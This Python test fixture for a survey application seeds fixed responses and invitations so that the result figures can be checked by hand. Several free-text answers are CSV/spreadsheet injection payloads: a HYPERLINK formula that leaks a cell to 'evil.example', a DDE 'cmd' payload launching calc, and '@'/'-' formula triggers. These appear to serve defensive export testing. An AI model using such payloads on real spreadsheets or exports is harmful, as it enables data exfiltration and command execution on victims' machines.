"""A small fixed set of responses to the world's survey_a, inserted directly as rows, so that
every figure of the results can be checked against a hand calculation."""

from __future__ import annotations

import datetime as dt
import hashlib
from collections.abc import Sequence

from qcrm.extensions import db
from surveys.models import (
    Answer,
    Delivery,
    Invitation,
    InvitationState,
    Question,
    Response,
    ResponseSource,
)

A = "channel_a"  # placeholder for the world's channel_a in the table below
INV, PUB = ResponseSource.INVITATION, ResponseSource.PUBLIC_LINK
JAN7, JAN9, JAN15, FEB4 = (
    dt.date(2030, 1, 7),
    dt.date(2030, 1, 9),
    dt.date(2030, 1, 15),
    dt.date(2030, 2, 4),
)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
CMD = "+cmd|' /C calc'!A0"

#: csat, nps, ces, rating (1–10), single choice, multiple choice, free text, channel, day, source
FIXED: Sequence[tuple] = (
    (5, 10, 7, 10, 0, (0, 1), HYPERLINK, A, JAN7, INV),
    (5, 10, 7, 9, 0, (0, 1), None, A, JAN7, INV),
    (5, 9, 7, 8, 0, (0, 1), None, A, JAN7, INV),
    (4, 9, 6, 8, 0, (0, 1), CMD, A, JAN7, INV),
    (4, 9, 6, 7, 0, (1, 2), None, A, JAN7, INV),
    (4, 8, 6, 7, 0, (1, 2), None, A, JAN9, INV),
    (4, 8, 6, 6, 1, (0,), "Sehr <b>gut</b> & schnell", A, JAN9, PUB),
    (4, 7, 5, 6, 1, (1,), None, A, JAN15, PUB),
    (4, 7, 5, 5, 1, (), None, None, JAN15, PUB),
    (3, 6, 5, 4, 2, (), "@SUM(1+1)", None, JAN15, PUB),
    (2, 3, 4, None, 2, (), None, None, FEB4, PUB),
    (1, 0, 2, None, None, (), "-2+3 ist falsch", None, FEB4, PUB),
)

#: FIXED with row 9 in channel A: then every (source, channel) cell holds at least the world
#: survey's minimum of 3 (invitation/A 6, public link/A 3, public link/none 3), so the channel
#: breakdown and filter may tell channel A apart (surveys.anonymity).
FIXED_TOLD: Sequence[tuple] = (*FIXED[:8], (*FIXED[8][:7], A, *FIXED[8][8:]), *FIXED[9:])


def questions_of(survey_id: int) -> list[Question]:
    return list(
        db.session.scalars(
            db.select(Question).where(Question.survey_id == survey_id).order_by(Question.position)
        )
    )


def add_response(
    survey_id: int,
    row: tuple,
    channel_id: int | None,
    questions: list[Question] | None = None,
) -> None:
    """One response with its answers; ``row`` as in FIXED (the channel column is ignored)."""
    questions = questions or questions_of(survey_id)
    csat, nps, ces, rating, single, multiple, text, _channel, day, source = row
    response = Response(survey_id=survey_id, channel_id=channel_id, source=source, submitted_on=day)
    by_position = {q.position: q for q in questions}
    answers = [
        Answer(question_id=by_position[position].id, number=value)
        for position, value in ((1, csat), (2, nps), (3, ces), (4, rating), (5, single))
        if value is not None
    ]
    answers += [Answer(question_id=by_position[6].id, number=option) for option in multiple]
    if text is not None:
        answers.append(Answer(question_id=by_position[7].id, text=text))
    response.answers = answers
    db.session.add(response)


def add_fixed_responses(survey_id: int, channel_id: int, rows: Sequence[tuple] = FIXED) -> None:
    questions = questions_of(survey_id)
    for row in rows:
        add_response(survey_id, row, channel_id if row[7] == A else None, questions)
        db.session.flush()  # ids in the order of the table: "newest first" is well defined
    db.session.commit()


def add_invitations(survey_id: int, states: dict[InvitationState, int], channel_id=None) -> None:
    """Invitations in the given states, their mails delivered (a bounced one's refused)."""
    number = db.session.scalar(db.select(db.func.count(Invitation.id))) or 0
    for state, count in states.items():
        for _ in range(count):
            number += 1
            digest = hashlib.sha256(f"r{number}@example.org".encode()).hexdigest()
            db.session.add(
                Invitation(
                    survey_id=survey_id,
                    email=f"r{number}@example.org",
                    email_hash=digest,
                    token_hash=hashlib.sha256(f"token{number}".encode()).hexdigest(),
                    token_salt=f"salt{number}",
                    channel_id=channel_id,
                    state=state,
                    delivery=DELIVERY_OF.get(state, Delivery.DELIVERED),
                )
            )
    db.session.commit()


DELIVERY_OF = {InvitationState.PENDING: None, InvitationState.BOUNCED: Delivery.BOUNCED}
#: 15 invited (not pending), 2 of them bounced → 13 delivered; 6 responses came by invitation.
INVITATIONS = {
    InvitationState.PENDING: 2,
    InvitationState.INVITED: 8,
    InvitationState.REMINDED: 1,
    InvitationState.ANSWERED: 3,
    InvitationState.OPTED_OUT: 1,
    InvitationState.BOUNCED: 2,
}
